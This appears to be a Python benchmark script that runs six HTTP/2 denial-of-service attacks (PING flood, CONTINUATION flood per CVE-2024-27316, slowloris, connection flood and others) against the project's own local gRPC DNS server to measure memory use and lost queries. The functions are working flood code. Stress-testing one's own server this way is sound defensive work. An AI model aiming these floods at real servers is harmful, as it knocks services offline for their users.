"""Bytes held and answers lost under hostile HTTP/2 clients (`python -m bench.hostile`, issue 11).

The gRPC server runs in its own process as in the backend (`fuzz.h2.Server`: DnsServer with default
`Limits` and a compiled table). Each attack below is the one issue 11 measured on 3b51836, run for
`--seconds` while a well-behaved client asks one query every 20 ms; the server's RSS is sampled every
100 ms. Per attack: RSS before, peak during and after the attackers have gone (5 s later), queries
asked and lost (no answer within 1 s) and the slowest answer. Figures go to bench/results.json under
`hostile`. Not part of `make bench` (about 2 minutes; the tests in backend/test_h2grpc.py check the
limits themselves).
"""

from __future__ import annotations

import argparse
import contextlib
import multiprocessing
import random
import socket
import tempfile
import threading
import time
from collections.abc import Callable
from multiprocessing.queues import Queue
from multiprocessing.synchronize import Event as EventLike
from pathlib import Path
from typing import Any

import grpc
import hpack

from backend.h2grpc import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, SETTINGS, frame
from backend.proto import dns_pb2, dns_pb2_grpc
from bench.__main__ import RESULTS, load, save
from bench.procstat import loadavg
from fuzz.h2 import BODY, CALL_HEADERS, QUERY, Server, huffman_field, rss

Attack = Callable[[int, EventLike], None]


def _connect(port: int) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def _send_until(sock: socket.socket, chunk: bytes, stop: EventLike) -> None:
    """Send `chunk` again and again, never reading, until `stop` or the server closes."""
    sock.settimeout(0.2)
    while not stop.is_set():
        with contextlib.suppress(TimeoutError, BlockingIOError):
            try:
                sock.sendall(chunk)
            except OSError:
                return


def _run_all(threads: list[threading.Thread]) -> None:
    """Start the attacker's threads and wait for them (they end on `stop` or the server's close)."""
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def ping_flood(port: int, stop: EventLike) -> None:
    """10 connections send PINGs as fast as they can and never read the PONGs (CVE-2019-9512)."""
    socks = [_connect(port) for _ in range(10)]
    _run_all([threading.Thread(target=_send_until, args=(s, frame(PING, 0, 0, b"12345678") * 4000, stop))
              for s in socks])
    for s in socks:
        s.close()


def unfinished_streams(port: int, stop: EventLike) -> None:
    """10 connections, each opening 100 streams of 69 KB bodies that never end (75 MB each before)."""
    encoder = hpack.Encoder()
    block = encoder.encode(CALL_HEADERS)
    socks = []
    for _ in range(10):
        sock = _connect(port)
        with contextlib.suppress(OSError):
            for sid in range(1, 201, 2):
                sock.sendall(frame(HEADERS, END_HEADERS, sid, block)
                             + b"".join(frame(DATA, 0, sid, b"x" * 16384) for _ in range(4))
                             + frame(DATA, 0, sid, b"x" * 3500))
        socks.append(sock)
    stop.wait()
    for s in socks:
        s.close()


def distinct_huffman(port: int, stop: EventLike) -> None:
    """Header blocks with distinct 12 KB Huffman strings, 4 connections (+315 MB left before)."""
    rng = random.Random(7541)
    values = [huffman_field(rng, 12000) for _ in range(200)]
    block = hpack.Encoder().encode(CALL_HEADERS)

    def one() -> None:
        sid = 1
        while not stop.is_set():
            try:
                sock = _connect(port)
                for value in values:
                    sock.sendall(frame(HEADERS, END_HEADERS, sid, block + value) + frame(DATA, 1, sid, BODY))
                    sid += 2
                    with contextlib.suppress(TimeoutError, BlockingIOError):
                        sock.setblocking(False)
                        while sock.recv(1 << 16):
                            pass
                    sock.setblocking(True)
                    if stop.is_set() or sid > 999:
                        break
                sock.close()
                sid = 1
            except OSError:
                time.sleep(0.05)

    _run_all([threading.Thread(target=one) for _ in range(4)])


def continuation_flood(port: int, stop: EventLike) -> None:
    """Endless CONTINUATION frames on fresh connections, 4 at a time (CVE-2024-27316)."""
    block = hpack.Encoder().encode(CALL_HEADERS)

    def one() -> None:
        while not stop.is_set():
            try:
                with _connect(port) as sock:
                    sock.sendall(frame(HEADERS, 0, 1, block))
                    for _ in range(2000):
                        sock.sendall(frame(CONTINUATION, 0, 1, b"\x00" * 1000))
            except OSError:  # the server's GOAWAY and close: the next connection
                pass

    _run_all([threading.Thread(target=one) for _ in range(4)])


def slowloris(port: int, stop: EventLike) -> None:
    """300 connections each sending the preface a byte at a time, one byte a second."""
    socks = []
    for _ in range(300):
        with contextlib.suppress(OSError):
            socks.append(socket.create_connection(("127.0.0.1", port), timeout=5))
    i = 0
    while not stop.wait(1.0):
        for s in socks:
            with contextlib.suppress(OSError):
                s.send(PREFACE[i % len(PREFACE):i % len(PREFACE) + 1])
        i += 1
    for s in socks:
        s.close()


def connection_flood(port: int, stop: EventLike) -> None:
    """Open connections as fast as possible and hold them (20,000 exhausted descriptors before)."""
    socks: list[socket.socket] = []
    while not stop.is_set() and len(socks) < 20000:
        try:
            socks.append(socket.create_connection(("127.0.0.1", port), timeout=1))
        except OSError:
            time.sleep(0.01)
    stop.wait()
    for s in socks:
        s.close()


ATTACKS: dict[str, Attack] = {
    "ping_flood_never_reads": ping_flood,
    "unfinished_streams": unfinished_streams,
    "distinct_huffman_strings": distinct_huffman,
    "continuation_flood": continuation_flood,
    "slowloris": slowloris,
    "connection_flood": connection_flood,
}


def ask(port: int, stop: EventLike, out: Queue[tuple[int, int, float]]) -> None:
    """One gRPC query every 20 ms on its own channel until `stop`: (asked, lost, slowest seconds)."""
    asked = lost = 0
    slowest = 0.0
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        stub = dns_pb2_grpc.DnsServiceStub(channel)
        while not stop.wait(0.02):
            asked += 1
            t0 = time.perf_counter()
            try:
                stub.Query(dns_pb2.DnsPacket(msg=QUERY), timeout=1.0)
                slowest = max(slowest, time.perf_counter() - t0)
            except grpc.RpcError:
                lost += 1
    out.put((asked, lost, slowest))


def measure(server: Server, attack: Attack, seconds: float) -> dict[str, Any]:
    """The attack and the well-behaved client each in a process of their own (no GIL shared with the
    sampler or each other), the server's RSS sampled here."""
    assert server.process is not None
    pid, ctx = server.process.pid, multiprocessing.get_context("fork")
    before = peak = rss(pid)
    stop_attack, stop_asking, answers = ctx.Event(), ctx.Event(), ctx.Queue()
    asker = ctx.Process(target=ask, args=(server.port, stop_asking, answers))
    attacker = ctx.Process(target=attack, args=(server.port, stop_attack))
    asker.start()
    attacker.start()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        peak = max(peak, rss(pid))
        time.sleep(0.1)
    stop_attack.set()
    attacker.join(30)
    if attacker.is_alive():
        attacker.kill()
    time.sleep(5)  # the attackers' connections are closed; what is still held is held for good
    after = rss(pid)
    stop_asking.set()
    asked, lost, slowest = answers.get(timeout=10)
    asker.join(5)
    mib = 1 << 20
    return {"rss_mib_before": round(before / mib, 1), "rss_mib_peak": round(peak / mib, 1),
            "rss_mib_after": round(after / mib, 1), "queries": asked, "lost": lost,
            "slowest_answer_ms": round(slowest * 1000, 1), "server_alive": server.alive()}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m bench.hostile", description=__doc__.split("\n")[0])
    ap.add_argument("--seconds", type=float, default=15.0, help="each attack's length (default 15)")
    ap.add_argument("--only", action="append", choices=list(ATTACKS), help="run only these attacks")
    args = ap.parse_args(argv)
    work = Path(tempfile.mkdtemp(prefix="bench-hostile-"))
    figures: dict[str, Any] = {"date": time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()),
                               "seconds": args.seconds, "loadavg_at_start": loadavg()}
    for name in args.only or ATTACKS:
        server = Server(work / f"{name}.log")  # a fresh server per attack: RSS of one attack only
        server.start()
        try:
            figures[name] = row = measure(server, ATTACKS[name], args.seconds)
        finally:
            server.stop()
        print(f"[hostile] {name}: RSS {row['rss_mib_before']} -> peak {row['rss_mib_peak']} -> "
              f"after {row['rss_mib_after']} MiB; {row['lost']} of {row['queries']} queries lost, "
              f"slowest {row['slowest_answer_ms']} ms", flush=True)
    figures["loadavg_at_end"] = loadavg()
    results = load()
    results["hostile"] = figures
    save(results)
    print(f"[hostile] logs in {work}; figures in {RESULTS} under 'hostile'")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
